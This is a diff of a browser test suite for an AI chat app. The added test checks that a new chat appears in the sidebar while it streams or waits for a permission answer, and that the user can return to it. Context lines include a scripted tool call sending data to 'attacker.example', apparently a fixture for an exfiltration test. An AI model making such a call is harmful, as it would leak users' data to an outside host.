@@ -93,6 +93,10 @@ const SCRIPT = {
       call('http_get', '{"url": "https://attacker.example/c?d=hello%20from%20the%20browser%20test"}'),
       'I did not send it.',
     ],
+    // A new chat is listed while its first answer streams, and can be gone back to
+    // (one per width); one whose first call waits for a permission answer.
+    '[live-side-test]': [1, 2].map(() => Array.from({ length: 260 }, (_, i) => `live${i}`).join(' ') + ' LIVE END'),
+    '[live-perm-test]': [1, 2].flatMap(k => [call('write_file', `{"path": "live-${k}.txt", "content": "live"}`), 'Wrote it.']),
     // A table in an answer, with long words in short columns.
     '[table-test]': ['| tool | level | what it does |\n|---|---|---|\n| get_time | L1 | Tells the current time in the time zone of the machine Evolve runs on, with the date. |\n| write_file | L3 | Writes a file in the workspace, replacing one of the same name after asking. |', '| tool | level | what it does |\n|---|---|---|\n| get_time | L1 | Tells the current time in the time zone of the machine Evolve runs on, with the date. |\n| write_file | L3 | Writes a file in the workspace, replacing one of the same name after asking. |'],
     // The tool-call check of Test in the settings panel (doctor's checks).
@@ -1514,6 +1518,59 @@ await test('tables keep their words whole: Tools, Prompt and an answer\'s table 
     eq((await brokenWords(page, '#messages')).join(' | '), '', `an answer's table at ${viewport.width} px`);
     await page.context().close();
   }
+});
+
+await test('a new chat is in the sidebar from its first question, while it streams and while it waits for a permission answer, and a streaming chat can be gone back to (1280 and 390 px)', async () => {
+  const other = await api('POST', '/v1/sessions', { title: 'A quiet chat to switch to' });
+  for (const viewport of WIDTHS) {
+    const phone = viewport.width < 700;
+    const page = await open({ viewport });
+    const sidebar = async () => { if (phone) { await page.click('#menu'); await page.waitForFunction(() => document.querySelector('#sidebar').getBoundingClientRect().left >= 0); } };
+    const story = `Tell a long story (${viewport.width})`, file = `Write a live file (${viewport.width})`;
+    const item = page.locator('[data-testid=session-item]', { hasText: story });
+    await page.click(phone ? '#menu' : '#new-chat').then(() => phone && page.click('#new-chat'));
+    await send(page, `${story}\n[live-side-test]`);
+    await lastAnswer(page).locator('.body', { hasText: 'live10' }).waitFor();
+    await sidebar();
+    await item.waitFor();
+    eq((await item.locator('[data-testid=session-live]').textContent()).trim(), 'answering…', 'the chat says it is answering');
+    await shot(page, `live-sidebar-${viewport.width}`);
+    // Away to another chat, and back while it still streams.
+    await page.locator(`[data-testid=session-item][data-id="${other.json.id}"] .open`).click();
+    await until(async () => (await page.textContent('#title')) === 'A quiet chat to switch to', 'the other chat is open');
+    check(!(await page.textContent('#messages')).includes('live10'), 'the other chat does not show the streaming answer');
+    await sidebar();
+    await item.waitFor();
+    check(await item.locator('[data-testid=session-live]').count() === 1, 'still marked as answering after switching');
+    await item.locator('.open').click();
+    const body = lastAnswer(page).locator('.body');
+    await body.waitFor();
+    const before = (await body.textContent()).length;
+    check(!(await body.textContent()).includes('LIVE END'), 'back before the end');
+    check(await page.isVisible('#stop'), 'Stop is offered for the running answer');
+    await until(async () => (await body.textContent()).length > before, 'the answer keeps growing in the chat gone back to');
+    await body.locator('text=LIVE END').waitFor();
+    await idle(page);
+    eq(await page.locator('[data-testid=msg-user]', { hasText: story }).count(), 1, 'the question once');
+    if (phone) await sidebar();
+    await item.locator('[data-testid=session-live]').waitFor({ state: 'detached' });
+    if (phone) await page.mouse.click(viewport.width - 10, 400);
+
+    // A first question whose tool call waits for the person: listed, "waiting for your answer".
+    if (phone) { await page.click('#menu'); await page.click('#new-chat'); } else await page.click('#new-chat');
+    await send(page, `${file} [live-perm-test]`);
+    await page.waitForSelector('#perm[open]');
+    const waiting = page.locator('[data-testid=session-item]', { hasText: file });
+    await waiting.locator('[data-testid=session-live]', { hasText: 'waiting for your answer' }).waitFor({ state: 'attached' });
+    await shot(page, `live-waiting-${viewport.width}`);
+    await page.click('#perm-allow');
+    await idle(page);
+    await lastAnswer(page).locator('.body', { hasText: 'Wrote it.' }).waitFor();
+    await waiting.locator('[data-testid=session-live]').waitFor({ state: 'detached' });
+    eq([...new Set(page.seen.errors)].join('\n'), '', 'page errors');
+    await page.context().close();
+  }
+  await api('DELETE', `/v1/sessions/${other.json.id}`);
 });
 
 await test('no page errors, CSP refusals or JavaScript dialogs on the way', async () => {
